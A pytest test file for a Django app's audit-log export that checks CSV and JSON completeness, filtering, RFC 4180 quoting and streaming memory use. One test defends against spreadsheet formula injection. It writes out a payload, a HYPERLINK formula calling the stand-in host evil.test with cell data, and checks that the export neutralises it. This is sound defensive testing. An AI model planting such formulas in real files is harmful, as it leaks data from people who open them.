"""The audit as CSV and JSON: complete, safe to open, and never in memory as a whole."""

import csv
import gc
import io
import json
from collections.abc import Callable
from datetime import timedelta
from typing import Any

import pytest
from asgiref.sync import sync_to_async
from django.db import connections
from django.test import AsyncClient
from django.utils import timezone

from accounts.audit.access import PART
from accounts.audit.entries import Entry
from accounts.models import AuditEntry
from runs.models import Run
from tests.cast import BY_PASSWORD, Api, Cast, make_cast
from tests.pages.conftest import Visit, Visitor, request_of
from web.exports import csv_parts, json_parts

pytestmark = pytest.mark.django_db
BY = {"type": "user", "id": "usr_x", "name": "X"}


def export(person: Visitor, form: str, query: str = "") -> bytes:
    return b"".join(person.get(f"/audit/export.{form}?{query}").streaming_content)


def lines(person: Visitor, query: str = "") -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(export(person, "csv", query).decode(), newline="")))


def many(cast: Cast, count: int) -> None:
    now = timezone.now()
    AuditEntry.objects.bulk_create(
        AuditEntry(
            team=cast.team, test=True, actor=BY, verb="key.created", subject=f"key_{n}", at=now - timedelta(seconds=n // 7),
            data={"name": f"key {n}", "scopes": ["runs:read"] * 20},
        )
        for n in range(count)
    )  # fmt: skip


def test_both_files_hold_every_entry_that_fits_and_no_other(visit: Visit, cast: Cast, test_key: Api) -> None:
    many(cast, 1203)
    test_key.patch("/team", {"claim_minutes": 5})
    bob = visit("bob")
    rows = lines(bob)
    assert len(rows) == len({r["id"] for r in rows}) == 1204
    assert [r["at"] for r in rows] == sorted((r["at"] for r in rows), reverse=True)
    found = json.loads(export(bob, "json", "kind=key"))
    assert len(found["entries"]) == 1203
    assert (found["world"], found["filter"]) == ("test", {"kind": "key"})
    assert len(lines(bob, "who=usr_nobody")) == 0
    assert json.loads(export(bob, "json", "who=usr_nobody"))["entries"] == []


def test_a_row_tells_who_when_through_what_and_what_changed(
    visit: Visit, test_key: Api, begin: Callable[..., Run]
) -> None:
    asked = request_of(begin("x [pause]"))
    visit("ana").post(f"/approvals/{asked.id}/decide", {"verdict": "reject", "note": "one, two\nthree “four”"})
    test_key.patch("/team", {"claim_minutes": 5})
    setting, decision = lines(visit("bob"))[:2]
    assert (setting["action"], setting["changes"], setting["world"]) == (
        "team.updated",
        "claim minutes: 10 → 5",
        "both",
    )
    assert (decision["action"], decision["via"], decision["actor"], decision["actor_type"]) == (
        "decision.reject", "dashboard", "Ana", "user",
    )  # fmt: skip
    assert (decision["note"], decision["approval_id"], decision["run_id"]) == (
        "one, two\nthree “four”", asked.id, asked.run_id,
    )  # fmt: skip
    entries = json.loads(export(visit("bob"), "json"))["entries"]
    assert entries[0]["changes"] == [{"name": "claim_minutes", "before": 10, "after": 5}]


def test_csv_is_as_rfc_4180_says(visit: Visit, test_key: Api) -> None:
    test_key.post("/keys", {"name": 'a "b", c'})
    answer = visit("bob").get("/audit/export.csv")
    assert answer["Content-Type"] == "text/csv; charset=utf-8; header=present"
    raw = b"".join(answer.streaming_content).decode()
    assert raw.endswith("\r\n")
    assert raw.replace("\r\n", "").count("\n") == 0
    assert '"a ""b"", c"' in raw


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_spreadsheet_computes_nothing_of_it(visit: Visit, cast: Cast, start: str) -> None:
    bad = f'{start}HYPERLINK("http://evil.test?"&A1)'
    AuditEntry.objects.create(
        team=cast.team,
        test=True,
        actor=BY | {"name": bad},
        verb="key.created",
        subject=bad[:80],
        data={"name": bad, "reason": bad},
    )
    raw = export(visit("bob"), "csv").decode()
    for row in csv.reader(io.StringIO(raw, newline="")):
        assert [cell for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))] == []
    (row,) = lines(visit("bob"))
    assert (row["actor"], row["about"], row["note"], row["subject"]) == ("'" + bad,) * 4


def test_parts_that_hold_nothing_end_no_file() -> None:
    assert b"".join(csv_parts(["a"], iter([[], [["1"]], [], [["2"]]]))) == b"a\r\n1\r\n2\r\n"
    parts = json_parts({"x": 1}, "rows", iter([[], [{"a": 1}], [], [{"a": 2}]]))
    assert json.loads(b"".join(parts)) == {"x": 1, "rows": [{"a": 1}, {"a": 2}]}
    assert json.loads(b"".join(json_parts({"x": 1}, "rows", iter([])))) == {"x": 1, "rows": []}


def test_of_five_thousand_rows_only_a_few_are_in_memory_at_a_time(visit: Visit, cast: Cast) -> None:
    many(cast, 5000)
    alive, sizes = [], []
    for part in visit("bob").get("/audit/export.csv").streaming_content:
        sizes.append(len(part))
        alive.append(sum(type(each) in (AuditEntry, Entry) for each in gc.get_objects()))
    assert sum(sizes) > 5000 * 300
    assert max(sizes) < sum(sizes) / 9
    assert max(alive) <= 4 * PART  # the part that was sent and the one before, each as rows and as entries


@pytest.mark.django_db(transaction=True)
async def test_a_server_that_can_wait_makes_each_part_when_the_last_is_sent() -> None:
    cast = await sync_to_async(make_cast)("acme")
    await sync_to_async(many)(cast, 1100)
    client = AsyncClient()
    await client.aforce_login(cast.people["bob"], backend=BY_PASSWORD)
    await client.post("/switch", {"mode": "test"})
    answer: Any = await client.get("/audit/export.json")
    parts = [part async for part in answer.streaming_content]
    assert len(parts) == 2 + -(-1100 // PART)  # the head, parts of at most so many rows, the end
    assert len(json.loads(b"".join(parts))["entries"]) == 1100
    await sync_to_async(connections.close_all)()
